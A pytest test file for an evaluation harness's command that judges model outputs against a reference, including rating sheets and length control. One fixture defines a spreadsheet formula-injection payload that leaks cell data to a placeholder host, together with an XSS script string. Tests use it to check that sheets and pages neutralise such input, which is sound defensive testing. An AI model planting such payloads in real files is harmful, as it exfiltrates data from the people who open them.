from __future__ import annotations

import argparse
import csv
import io
import json
import os
import warnings
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pytest
from judging_fakes import FakeJudge

from implicit_if.harness.annotations import AnnotationStore
from implicit_if.harness.cli import main
from implicit_if.harness.errors import UserError
from implicit_if.harness.instructions.alpaca_eval import official_ids
from implicit_if.harness.judging import Comparison, cli
from implicit_if.harness.judging import pairs as pairs_module
from implicit_if.harness.judging.cli import parse_options
from implicit_if.harness.outputs import Output, OutputsMeta, instruction_id, save_outputs
from implicit_if.harness.scores import Score

Run = Callable[..., int]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """`sys.json` (sidecar says builtin) wins 3, ties 1 and loses 1 of 5 by length against `ref.json`."""
    system, reference = ["aaa", "aaa", "aaa", "aa", "a"], ["a", "a", "a", "bb", "bbbb"]
    rows = [f"Instruction {n}" for n in range(5)]
    save_outputs(
        tmp_path / "sys.json",
        [Output(instruction=i, output=o, generator="my system") for i, o in zip(rows, system, strict=True)],
        OutputsMeta(generator="my system", instruction_set="mine", instruction_revision="r1"),
    )
    save_outputs(
        tmp_path / "ref.json",
        [Output(instruction=i, output=o, generator="base") for i, o in zip(rows, reference, strict=True)][::-1],
    )
    return tmp_path


@pytest.fixture
def judge_command(folder: Path) -> Run:
    """Runs `implicit-if judge` as the command line does."""

    def run(*arguments: str, outputs: str = "sys.json", reference: str = "ref.json", judge: str = "longest") -> int:
        parser = argparse.ArgumentParser()
        cli.add_arguments(parser)
        fixed = [str(folder / outputs), "--reference", str(folder / reference), "--judge", judge]
        return cli.run(parser.parse_args([*fixed, *arguments]))

    return run


def scores_in(path: Path) -> dict[str, Score]:
    return {name: Score.model_validate(score) for name, score in json.loads(path.read_text())["scores"].items()}


def test_it_judges_prints_and_writes(judge_command: Run, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = folder / "scores.json"
    assert judge_command("--out", str(out)) == 0
    scores = scores_in(out)
    assert scores["win_rate"].value == pytest.approx(100 * 3.5 / 5)
    assert scores["discrete_win_rate"].value == pytest.approx(100 * 3.5 / 5)
    assert set(scores) == {"attempt_rate", "win_rate", "discrete_win_rate", "length_controlled_win_rate"}
    assert all(score.complete and score.n_expected == 5 for score in scores.values())
    signature = scores["win_rate"].signature
    assert (signature.instruction_set, signature.instruction_revision) == ("mine", "r1")  # from the sidecar
    assert (signature.n, signature.reference) == (5, "base")
    assert (signature.judge, signature.orders, signature.lc) == ("longest", 1, None)
    assert scores["length_controlled_win_rate"].signature.lc is not None
    printed = capsys.readouterr().out
    assert "my system against base, judged by longest" in printed
    assert scores["win_rate"].render() in printed
    assert str(scores["win_rate"].signature) in printed
    assert "judged: 5 of 5" in printed
    assert len(list(AnnotationStore(folder / "sys.annotations.jsonl"))) == 5


@pytest.mark.parametrize("option", ["--out", "--annotations"])
@pytest.mark.parametrize("content", ['[{"instruction": "mine"}]', '{"judge": "of my own"}', "notes", '"text"'])
def test_a_file_of_the_users_is_left_alone(judge_command: Run, folder: Path, option: str, content: str) -> None:
    mine = folder / "mine.json"
    mine.write_text(content)
    with pytest.raises(UserError, match=r"mine\.json"):
        judge_command(option, str(mine))
    assert mine.read_text() == content


def test_an_earlier_report_and_an_empty_file_are_replaced(judge_command: Run, folder: Path) -> None:
    out = folder / "scores.json"
    out.touch()
    assert judge_command("--out", str(out)) == 0
    first = out.read_bytes()
    assert judge_command("--out", str(out)) == 0
    assert out.read_bytes() == first
    with pytest.raises(UserError, match=r"sys\.json: holds something else"):
        judge_command("--out", str(folder / "sys.json"))


def test_a_warning_is_a_sentence(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    paths = [str(folder / "sys.json"), "--reference", str(folder / "sys.json")]
    with warnings.catch_warnings():
        warnings.simplefilter("default")
        assert main(["judge", *paths, "--judge", "longest"]) == 0
    printed = capsys.readouterr().err
    assert "implicit-if: warning: the system's answers are the reference's" in printed
    assert "cli.py" not in printed


@pytest.mark.parametrize("option", ["--annotations", "--out", "--sheet"])
def test_a_name_of_300_bytes_is_a_sentence(judge_command: Run, folder: Path, option: str) -> None:
    with pytest.raises(UserError, match="File name too long"):
        judge_command(option, str(folder / ("x" * 300)), judge="sheet" if option == "--sheet" else "longest")


@pytest.mark.parametrize(
    ("name", "content", "option"),
    [
        ("deep.yaml", b"backend: " + b"[" * 20_000, "--judge"),
        ("binary.yaml", b"\x00\x01\xff", "--judge"),
        ("binary.jinja", b"\xff\xfe\x00", "prompt"),
        ("deep/sheet.csv", b"[" * 200_000, "--sheet"),
        ("binary/sheet.csv", b"key,verdict\n\x00,1\n", "--sheet"),
    ],
)
def test_files_of_any_content_are_a_sentence(
    judge_command: Run, folder: Path, name: str, content: bytes, option: str
) -> None:
    file = folder / name
    file.parent.mkdir(exist_ok=True)
    file.write_bytes(content)
    options = {
        "--judge": {"judge": str(file)},
        "prompt": {"judge": "openai:x"},
        "--sheet": {"judge": "sheet"},
    }[option]
    arguments = {"--judge": [], "prompt": ["--option", f"prompt={file}"], "--sheet": ["--sheet", str(file.parent)]}
    with pytest.raises(UserError, match=name.split("/")[-1].replace(".", r"\.")):
        judge_command(*arguments[option], **options)


def test_a_byte_order_mark_is_skipped(judge_command: Run, folder: Path) -> None:
    (folder / "bom.yaml").write_bytes(b"\xef\xbb\xbfbackend: longest\n")
    assert judge_command(judge=str(folder / "bom.yaml")) == 0


def test_annotations_are_kept_in_no_device(judge_command: Run) -> None:
    with pytest.raises(UserError, match="/dev/null: not a regular file"):
        judge_command("--annotations", "/dev/null")


@pytest.mark.parametrize("judge", ["openai:gpt-4.1-mini", "anthropic:claude-sonnet-4-5", "alpaca-eval-2"])
def test_a_dry_run_needs_no_key(
    judge_command: Run, folder: Path, judge: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.delenv("OPENAI_API_KEY")
    monkeypatch.delenv("ANTHROPIC_API_KEY")
    assert judge_command("--dry-run", judge=judge) == 0
    assert "10 calls, estimated cost about $0.0" in capsys.readouterr().err
    with pytest.raises(UserError, match="_API_KEY is not set"):
        judge_command(judge=judge)
    assert not (folder / "sys.annotations.jsonl").exists()


def test_the_same_verdicts_give_the_same_bytes(judge_command: Run, folder: Path) -> None:
    one, other = folder / "1.json", folder / "2.json"
    judge_command("--out", str(one))
    judge_command("--out", str(other))
    assert one.read_bytes() == other.read_bytes()


def test_the_signature_names_the_answers_and_instructions_not_the_files(judge_command: Run, folder: Path) -> None:
    judge_command("--out", str(folder / "1.json"))
    rows = json.loads((folder / "ref.json").read_text())
    (folder / "ref2.json").write_text(json.dumps(rows[::-1]))
    judge_command("--out", str(folder / "2.json"), reference="ref2.json")
    rows[0]["output"] += "!"
    (folder / "ref3.json").write_text(json.dumps(rows))
    judge_command("--out", str(folder / "3.json"), reference="ref3.json")
    first, second, third = (scores_in(folder / f"{n}.json")["win_rate"].signature for n in (1, 2, 3))
    assert first == second
    assert first.reference_hash != third.reference_hash


def test_files_of_lm_eval_and_alpaca_eval_are_read(judge_command: Run, folder: Path) -> None:
    samples = [
        {"doc": {"instruction": f"Instruction {n}"}, "resps": [["x" * (n + 1)]], "filtered_resps": ["x" * (n + 1)]}
        for n in range(5)
    ]
    name = "samples_alpaca_winrate_2026-01-01T00-00-00.5.jsonl"
    (folder / name).write_text("".join(json.dumps(sample) + "\n" for sample in samples))
    published = [
        {"dataset": "koala", "instruction": f"Instruction {n}", "output": "yyy", "generator": "gpt4"} for n in range(5)
    ]
    (folder / "model_outputs.json").write_text(json.dumps(published))
    judge_command("--out", str(folder / "s.json"), outputs=name, reference="model_outputs.json")
    assert scores_in(folder / "s.json")["win_rate"].value == pytest.approx(50)  # lengths 1 to 5 against 3
    assert (folder / name.replace(".jsonl", ".annotations.jsonl")).exists()


def test_limit(judge_command: Run, folder: Path) -> None:
    judge_command("--limit", "3", "--out", str(folder / "s.json"), "--annotations", str(folder / "a.jsonl"))
    score = scores_in(folder / "s.json")["win_rate"]
    assert (score.value, score.n_expected) == (100.0, 3)
    assert len(list(AnnotationStore(folder / "a.jsonl"))) == 3


def test_a_reference_with_more_answers_needs_the_flag(judge_command: Run, folder: Path) -> None:
    rows = json.loads((folder / "sys.json").read_text())[:2]
    (folder / "few.json").write_text(json.dumps(rows))
    with pytest.raises(UserError, match="--allow-missing"):
        judge_command(outputs="few.json")
    assert judge_command("--allow-missing", "--out", str(folder / "s.json"), outputs="few.json") == 0
    for score in scores_in(folder / "s.json").values():  # what was left unanswered is missing, not absent
        assert (score.n_judged, score.n_expected, score.signature.n, score.complete) == (2, 5, 5, False)


def test_dry_run_writes_nothing(judge_command: Run, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert judge_command("--dry-run", "--out", str(folder / "s.json")) == 0
    assert not (folder / "s.json").exists()
    assert not (folder / "sys.annotations.jsonl").exists()
    captured = capsys.readouterr()
    assert captured.out == ""
    assert "judge longest: 5 verdicts to obtain, 0 calls" in captured.err


def test_missing_verdicts_are_shown_and_change_the_exit_status(
    judge_command: Run, folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from implicit_if.harness.judging import Verdict

    def fails(c: Comparison) -> float | Verdict:
        lost = c.instruction == "Instruction 1"
        return Verdict(c.key, None, error="said \x1b[2J\ud800 nothing") if lost else 0.75

    monkeypatch.setattr(cli, "get_judge", lambda spec, **options: FakeJudge(fails))
    assert judge_command("--out", str(folder / "s.json")) == 1
    captured = capsys.readouterr()
    assert "(4 of 5 judged)" in captured.out
    assert "judged: 4 of 5" in captured.out
    assert f"not judged: {instruction_id('Instruction 1')} (system_first): said" in captured.out
    assert "\x1b" not in captured.out
    scores = scores_in(folder / "s.json")
    assert scores["win_rate"].n_judged == 4
    assert not scores["win_rate"].complete
    assert scores["win_rate"].value == 50.0
    # 0.75 for the first answer, whichever it is: the system gains 0.5 by being first; "bb" against "aa" is no tie
    assert scores["position_bias"].value == pytest.approx(50.0)


def test_outputs_without_texts_need_the_instruction_set(judge_command: Run, folder: Path) -> None:
    texts = [{"instruction": f"Instruction {n}"} for n in range(5)]
    (folder / "set.json").write_text(json.dumps(texts))
    for name in ("sys.json", "ref.json"):
        rows = json.loads((folder / name).read_text())
        (folder / f"ids-{name}").write_text(json.dumps([{**row, "instruction": None} for row in rows]))
    names = {"outputs": "ids-sys.json", "reference": "ids-ref.json"}
    with pytest.raises(UserError, match="--instructions"):
        judge_command(**names)
    spec = ["--instructions", str(folder / "set.json"), "--out", str(folder / "s.json")]
    assert judge_command(*spec, **names) == 0
    assert scores_in(folder / "s.json")["win_rate"].value == pytest.approx(70)
    assert scores_in(folder / "s.json")["win_rate"].signature.instruction_set == "set"
    with pytest.raises(UserError, match="no instruction"):
        judge_command("--instructions", "builtin")


def test_the_builtin_set_is_known_by_its_content(judge_command: Run, folder: Path) -> None:
    from implicit_if.harness.instructions import load_instructions

    found = load_instructions("builtin")
    for name, answer in (("b-sys", "long answer"), ("b-ref", "short")):
        rows = [Output(instruction=item.text, output=answer, generator=name) for item in found.items]
        save_outputs(folder / f"{name}.json", rows)
    judge_command("--out", str(folder / "s.json"), outputs="b-sys.json", reference="b-ref.json")
    signature = str(scores_in(folder / "s.json")["win_rate"].signature)
    assert signature.startswith(f"task:alpaca_winrate|set:{found.signature}|n:{len(found.items)}|ref:b-ref@")
    names = {"outputs": "b-sys.json", "reference": "b-ref.json"}
    judge_command("--out", str(folder / "s.json"), "--limit", "7", **names)
    assert str(scores_in(folder / "s.json")["win_rate"].signature).startswith(
        f"task:alpaca_winrate|set:{found.signature}|n:7|ref:b-ref@"
    )


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        ({"judge": "longst"}, "Did you mean 'longest'"),
        ({"outputs": "missing.json"}, "no such file"),
        ({"reference": "several.json"}, "answers of 2 systems in one file"),
        ({"judge": "openai"}, "needs an argument"),
    ],
)
def test_wrong_arguments_end_at_once(judge_command: Run, folder: Path, arguments: dict, message: str) -> None:
    rows = json.loads((folder / "ref.json").read_text())
    rows[0]["generator"] = "another"
    (folder / "several.json").write_text(json.dumps(rows))
    with pytest.raises(UserError, match=message):
        judge_command(**arguments)


@pytest.mark.parametrize("arguments", [["--limit", "0"], ["--max-cost", "-1"], ["--max-cost", "nan"]])
def test_numbers_out_of_range_are_refused(judge_command: Run, arguments: list[str]) -> None:
    with pytest.raises(SystemExit):
        judge_command(*arguments)


def test_options() -> None:
    assert parse_options(["a=1", "b=0.5", "c=true", "d=null", "e=text", "f=http://x/?a=b", 'g="1"', "h=", "i=[1]"]) == {
        "a": 1,
        "b": 0.5,
        "c": True,
        "d": None,
        "e": "text",
        "f": "http://x/?a=b",
        "g": "1",
        "h": "",
        "i": [1],
    }


@pytest.mark.parametrize("option", ["temperature", "=1"])
def test_malformed_options(option: str) -> None:
    with pytest.raises(UserError, match="--option"):
        parse_options([option])
    with pytest.raises(UserError, match="twice"):
        parse_options(["a=1", "a=2"])


def test_options_reach_the_judge(judge_command: Run) -> None:
    with pytest.raises(UserError, match="takes neither argument nor options, found options verbosity"):
        judge_command("--option", "verbosity=3")
    with pytest.raises(UserError, match="a b"):
        judge_command("--option", "a b=1")


@pytest.mark.parametrize(
    "name", ["sys.json/scores.json", "a" * 300, "new/" + "\u00e9" * 150 + ".json", ".", "\0.json"], ids=range(5)
)
def test_an_unwritable_out_is_a_clear_error_before_anything_is_judged(
    judge_command: Run, folder: Path, name: str
) -> None:
    before = sorted(folder.rglob("*"))
    with pytest.raises(UserError, match=r"--out (?s:.*)cannot be written"):
        judge_command("--out", str(folder / name))
    assert sorted(folder.rglob("*")) == before


def test_an_out_that_cannot_be_written_in_the_end_loses_no_verdict(
    judge_command: Run, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("implicit_if.harness.judging.scoring.check_writable", lambda _: None)
    with pytest.raises(UserError, match=r"--out .*cannot be written.*verdicts are kept"):
        judge_command("--out", str(folder / "sys.json" / "scores.json"))  # its folder is a file
    assert len(list(AnnotationStore(folder / "sys.annotations.jsonl"))) == 5


def test_a_long_name_that_is_possible_is_written(judge_command: Run, folder: Path) -> None:
    assert judge_command("--out", str(folder / "new" / ("a" * 250))) == 0
    assert json.loads((folder / "new" / ("a" * 250)).read_text())["scores"]


# People


def fill_in(path: Path, verdict: Callable[[dict[str, str]], str]) -> None:
    """Fills a sheet in as a spreadsheet saves it: the texts as shown, quoted anew."""
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    with open(path, "w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, fieldnames=list(rows[0]), quoting=csv.QUOTE_ALL)
        writer.writeheader()
        writer.writerows({**row, "verdict": verdict(row)} for row in rows)


FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"<script>alert(1)</script>")'


@pytest.fixture
def formulas(folder: Path) -> None:
    """Answers that a spreadsheet would run, against harmless ones."""
    starts = ["=", "+", "-", "@", " ="]
    for name, answers in (("f-sys", [s + FORMULA for s in starts]), ("f-ref", ["harmless"] * 5)):
        rows = [Output(instruction=f"Instruction {n}", output=a, generator=name) for n, a in enumerate(answers)]
        save_outputs(folder / f"{name}.json", rows)


ANNA = ("--option", "rater=anna", "--option", "kind=person")


def test_a_sheet_is_written_filled_in_and_judged(
    judge_command: Run, folder: Path, formulas: None, capsys: pytest.CaptureFixture[str]
) -> None:
    names = {"outputs": "f-sys.json", "reference": "f-ref.json", "judge": "sheet"}
    sheet = folder / "rating"
    assert judge_command("--sheet", str(sheet), **names) == 0
    assert "5 rows are in" in capsys.readouterr().out
    assert not (folder / "f-sys.annotations.jsonl").exists()
    for row in csv.DictReader(io.StringIO((sheet / "sheet.csv").read_text(encoding="utf-8-sig"), newline="")):
        assert not any(row[c].lstrip().startswith(("=", "+", "-", "@")) for c in row)
    page = (sheet / "sheet.html").read_text()
    assert "<script>alert" not in page
    assert "f-sys" not in page + (sheet / "sheet.csv").read_text()  # blind

    assert judge_command("--sheet", str(sheet), *ANNA, **names) == 1  # nothing filled in yet
    assert "judged: 0 of 5" in capsys.readouterr().out
    fill_in(sheet / "sheet.csv", lambda row: "1" if "HYPERLINK" in row["answer_1"] else "2")
    assert judge_command("--sheet", str(sheet), "--out", str(folder / "s.json"), *ANNA, **names) == 0
    assert scores_in(folder / "s.json")["win_rate"].value == 100.0
    assert "judged by sheet:person/anna\n" in capsys.readouterr().out


def test_what_the_page_saves_is_found_and_never_mixed(judge_command: Run, folder: Path, formulas: None) -> None:
    names = {"outputs": "f-sys.json", "reference": "f-ref.json", "judge": "sheet"}
    sheet = folder / "rating"
    judge_command("--sheet", str(sheet), **names)
    text = (sheet / "sheet.csv").read_text(encoding="utf-8-sig")
    keys = [row["key"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    (sheet / "sheet-judged.csv").write_text("key,verdict,comment\n" + "".join(f"{key},tie,\n" for key in keys))
    assert judge_command("--sheet", str(sheet), "--out", str(folder / "s.json"), *ANNA, **names) == 0
    assert scores_in(folder / "s.json")["win_rate"].value == 50.0
    fill_in(sheet / "sheet.csv", lambda row: "1")
    with pytest.raises(UserError, match="Expected one sheet with verdicts"):
        judge_command("--sheet", str(sheet), *ANNA, **names)


def test_sheets_are_for_raters(judge_command: Run, folder: Path) -> None:
    with pytest.raises(UserError, match="--judge sheet"):
        judge_command("--sheet", str(folder / "rating"))
    with pytest.raises(UserError, match="cannot be written"):
        judge_command("--sheet", str(folder / "sys.json"), judge="sheet")
    with pytest.raises(UserError, match="Expected --sheet FOLDER"):
        judge_command(judge="sheet")


def test_a_dry_run_writes_no_sheet(judge_command: Run, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert judge_command("--sheet", str(folder / "rating"), "--dry-run", judge="sheet") == 0
    assert not (folder / "rating").exists()
    assert f"a sheet of 5 rows would be in {folder / 'rating'}" in capsys.readouterr().out


# Length control


def test_the_help_shows_what_a_prior_is_written_like(judge_command: Run) -> None:
    parser = argparse.ArgumentParser()
    cli.add_arguments(parser)
    assert "--length-prior=MEAN,SD" in " ".join(parser.format_help().split())
    with pytest.raises(UserError, match=r"--length-prior=-1,0\.3"):
        judge_command("--length-prior", "strong")
    assert judge_command("--length-prior=-1,0.3") == 0


def test_the_estimator_and_its_prior_are_shown(
    judge_command: Run, folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    judge_command("--out", str(folder / "s.json"))
    assert "length control: offline(weak), because the instruction set is 'mine'" in capsys.readouterr().out
    found = json.loads((folder / "s.json").read_text())
    control, score = found["length_control"], found["scores"]["length_controlled_win_rate"]
    assert (control["method"], control["prior"]["mean"], control["prior"]["sd"]) == ("offline(weak)", 0.0, 1.0)
    low, high = control["prior_sensitivity"]
    assert min(low, high) <= score["value"] <= max(low, high)
    assert "|lc:offline(weak)|" in score["signature"]
    judge_command("--out", str(folder / "s.json"), "--length-prior=-1.4,0.2")
    assert "|lc:offline(-1.4,0.2)|" in (folder / "s.json").read_text()
    assert "as asked for" in capsys.readouterr().out


def test_alpaca_evals_length_control_cannot_be_had_elsewhere(judge_command: Run) -> None:
    with pytest.raises(UserError, match="the instruction set is 'mine', not AlpacaEval's"):
        judge_command("--length-control", "alpaca_eval")
    with pytest.raises(UserError, match="leave out"):
        judge_command("--length-control", "alpaca_eval", "--length-prior", "weak")


@pytest.mark.parametrize("cached", [True, False])
def test_a_length_control_that_cannot_be_had_is_refused_before_anything_is_asked(
    judge_command: Run, folder: Path, alpaca_eval: FakeJudge, monkeypatch: pytest.MonkeyPatch, cached: bool
) -> None:
    if not cached:
        (Path(os.environ["IMPLICIT_IF_CACHE"]) / "df_gamed.csv").unlink()
        monkeypatch.setattr("huggingface_hub.constants.HF_HUB_CACHE", str(folder / "no-hub"))
        monkeypatch.setattr(pairs_module, "_text", lambda system, reference: f"text of {system.instruction_id}")
    names = {} if cached else {"outputs": "a-sys.json", "reference": "a-ref.json"}
    with pytest.raises(UserError, match="'mine', not AlpacaEval's" if cached else "not in the cache"):
        judge_command("--length-control", "alpaca_eval", **names)
    assert alpaca_eval.asked == []


@pytest.fixture
def alpaca_eval(folder: Path, monkeypatch: pytest.MonkeyPatch) -> FakeJudge:
    """Shuffled answers to AlpacaEval by id, a judge with a language model's name, and the hub's file in our cache."""
    ids = list(official_ids())
    rng = np.random.default_rng(0)
    wins = dict(zip(ids, rng.random(len(ids)).round(3), strict=True))
    for name, scale in (("a-sys", 300), ("a-ref", 600)):
        rows = [
            Output(instruction_id=i, instruction=None, output=f"{name} {i} " + "x" * int(n), generator=name)
            for i, n in zip(ids, rng.exponential(scale, len(ids)), strict=True)
        ]
        save_outputs(folder / f"{name}.json", [rows[k] for k in rng.permutation(len(rows))])
    with open(Path(os.environ["IMPLICIT_IF_CACHE"]) / "df_gamed.csv", "w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(
            ["preference", "index", "std_delta_len", "instruction_difficulty", "not_gamed_baseline", "model"]
        )
        for model, shift in (("concise", 0.8), ("verbose", -0.6)):
            for k in range(len(ids)):
                writer.writerow([float(rng.random() < 0.4), k, rng.normal(shift, 1), rng.normal(), False, model])
    judge = FakeJudge(lambda c: wins[c.first.split()[1]], ordered=False)
    judge.name = "openai:fake"
    monkeypatch.setattr(cli, "get_judge", lambda spec, **options: judge)
    return judge


def theirs(folder: Path, judge: FakeJudge, monkeypatch: pytest.MonkeyPatch) -> float:
    """alpaca-eval 0.6.6 on the same verdicts, in AlpacaEval's order, with the same hub file."""
    import importlib
    import warnings

    import pandas as pd
    import sklearn

    answers = [
        {o["instruction_id"]: o for o in json.loads((folder / f"a-{n}.json").read_text())} for n in ("sys", "ref")
    ]
    system, reference = ([by_id[i]["output"] for i in official_ids()] for by_id in answers)
    with sklearn.config_context(), warnings.catch_warnings():
        warnings.simplefilter("ignore")
        module = importlib.import_module("alpaca_eval.metrics.glm_winrate")
        path = Path(os.environ["IMPLICIT_IF_CACHE"]) / "df_gamed.csv"
        monkeypatch.setattr(module, "hf_hub_download", lambda **_: str(path))
        table = pd.DataFrame(
            {
                "preference": [1 + judge.prefers_first(Comparison("", "", s, "")) for s in system],
                "output_1": reference,
                "output_2": system,
                "generator_1": "reference",
                "generator_2": "system",
                "annotator": "judge",
            }
        )
        found = module.get_length_controlled_winrate(table, save_weights_dir=None)
    return float(found["length_controlled_winrate"])


def test_alpaca_evals_own_length_control_where_its_file_is_cached(
    judge_command: Run,
    folder: Path,
    alpaca_eval: FakeJudge,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    names = {"outputs": "a-sys.json", "reference": "a-ref.json"}
    arguments = ["--instructions", "alpaca_eval", "--out", str(folder / "s.json")]
    texts = SimpleNamespace(name="alpaca_eval", revision="r", texts=lambda: {i: f"text of {i}" for i in official_ids()})
    monkeypatch.setattr(cli, "_load_set", lambda spec: texts)  # the texts may not be shipped with a test
    monkeypatch.setattr(cli, "join_instructions", lambda outputs, texts: outputs)
    monkeypatch.setattr(pairs_module, "_text", lambda system, reference: f"text of {system.instruction_id}")
    judge_command(*arguments, **names)
    assert "length control: alpaca_eval, with df_gamed.csv" in capsys.readouterr().out
    score = scores_in(folder / "s.json")["length_controlled_win_rate"]
    assert score.value == pytest.approx(theirs(folder, alpaca_eval, monkeypatch), abs=1e-9)
    assert score.signature.lc == "alpaca_eval"
    assert score.interval is not None
    assert score.interval.method == "alpaca_eval;score"
    control = json.loads((folder / "s.json").read_text())["length_control"]
    assert control == {
        "method": "alpaca_eval",
        "reason": "with df_gamed.csv of AlpacaEval's hub dataset",
        "prior": None,
        "prior_sensitivity": None,
        "notes": ["LC 50.0 differs from the win rate 51.8 by more than its interval [50.0, 50.0]"],
    }

    judge_command(*arguments, "--length-control", "offline", **names)
    assert scores_in(folder / "s.json")["length_controlled_win_rate"].signature.lc == "offline(llm,c0.3)"
    alpaca_eval.name = "embedded"  # not a language model: GPT-4's taste for length is not its own
    judge_command(*arguments, **names)
    assert "because alpaca-eval's holds GPT-4 Turbo's taste" in capsys.readouterr().out
    judge_command(*arguments, "--length-control", "alpaca_eval", **names)
    assert "|lc:alpaca_eval|" in (folder / "s.json").read_text()
    alpaca_eval.name = "openai:fake"
    file = Path(os.environ["IMPLICIT_IF_CACHE"]) / "df_gamed.csv"
    lines = file.read_text().splitlines()
    file.write_text("\n".join(line for line in lines if line.split(",")[1] not in ("803", "804")))
    judge_command(*arguments, **names)
    assert "holds 803 instructions, expected 805" in capsys.readouterr().out
    file.write_text("a,b\n1,2\n")
    judge_command(*arguments, **names)
    assert "because it cannot be used:" in capsys.readouterr().out
    with pytest.raises(UserError, match="it cannot be used: .*Expected verdicts on AlpacaEval's"):
        judge_command(*arguments, "--length-control", "alpaca_eval", **names)
    file.unlink()
    monkeypatch.setattr("huggingface_hub.constants.HF_HUB_CACHE", str(folder / "no-hub"))
    judge_command(*arguments, **names)
    assert (
        "offline(llm,c0.3), because df_gamed.csv of AlpacaEval's hub dataset is not in the cache"
        in capsys.readouterr().out
    )


def test_the_judge_defaults_as_in_lm_eval_and_clear_verdicts_are_shown(
    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from implicit_if.tasks.alpaca_winrate.settings import Settings

    parser = argparse.ArgumentParser()
    cli.add_arguments(parser)
    assert parser.parse_args(["x", "--reference", "y"]).judge == Settings().judge
    files = [str(folder / "sys.json"), "--reference", str(folder / "ref.json"), "--judge", "longest"]
    assert main(["judge", *files, "--judge-attempts", "none", "--show", "2"]) == 0
    printed = capsys.readouterr().out
    assert printed.count("=" * 100) == 2
    assert "my system: 1.00" in printed or "my system: 0.00" in printed
    assert "my system: 0.50" not in printed  # the tie is the least clear
    shown = f"{folder / 'sys.json'} --reference {folder / 'ref.json'} --judge longest"
    assert printed.endswith(f"\nread the answers: implicit-if view {shown}\n")
    monkeypatch.setenv("IMPLICIT_IF_CACHE", str(folder / "cache"))
    assert main(["view", *shown.split(), "--judge-attempts", "none", "--no-browser"]) == 0
    assert "reused" not in "".join(capsys.readouterr())


def test_lost_rows_are_named(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rows = json.loads((folder / "sys.json").read_text())
    (folder / "sys.json").write_text(json.dumps(rows[1:]))
    files = [str(folder / "sys.json"), "--reference", str(folder / "ref.json"), "--judge", "longest"]
    assert main(["judge", *files]) == 2
    lost = f"{instruction_id('Instruction 0')} 'Instruction 0'"
    assert f"1 only in the reference outputs ({lost})" in capsys.readouterr().err
    main(["judge", *files, "--judge-attempts", "none", "--allow-missing"])
    assert f"note: 1 of the reference's 5 instructions have no answer: {lost}" in capsys.readouterr().err


def test_a_named_reference_stands_where_outputs_stand(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("IMPLICIT_IF_CACHE", str(tmp_path / "cache"))
    names = ["gemma-3-270m/response", "--reference", "gemma-3-270m/instruction"]
    assert main(["judge", *names, "--judge", "longest", "--judge-attempts", "none", "--out", "scores.json"]) == 0
    assert "gemma-3-270m/response against" in capsys.readouterr().out
    assert scores_in(Path("scores.json"))["win_rate"].signature.instruction_set == "builtin"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["cache", "scores.json"]  # nothing beside the package


@pytest.mark.parametrize(
    "command",
    [
        "judge sys.json --reference ref.json --judge longest --judge-attempts none",
        "attempts sys.json",
        "compare sys.annotations.jsonl sys.annotations.jsonl",
        "agreement a=sys.annotations.jsonl b=sys.annotations.jsonl",
    ],
)
def test_json_is_all_of_standard_output_and_what_out_writes(
    folder: Path, command: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(folder)
    if "annotations" in command:
        main("judge sys.json --reference ref.json --judge longest --judge-attempts none".split())
        capsys.readouterr()
    words = command.replace("sys.annotations.jsonl sys", "a=sys.annotations.jsonl b=sys").split()
    assert main([*words, "--json", "--out", "out.json"]) == 0
    assert json.loads(capsys.readouterr().out) == json.loads(Path("out.json").read_text())


def test_options_may_be_spelled_as_in_lm_eval() -> None:
    url = "base_url=http://localhost:8000/v1"
    assert parse_options([url]) == parse_options([f"judge_{url}"]) == {"base_url": "http://localhost:8000/v1"}
    assert parse_options([f"judge_attempts_{url}"], "--attempts-option") == parse_options([url], "--attempts-option")
    with pytest.raises(UserError, match="given twice"):
        parse_options([url, f"judge_{url}"])
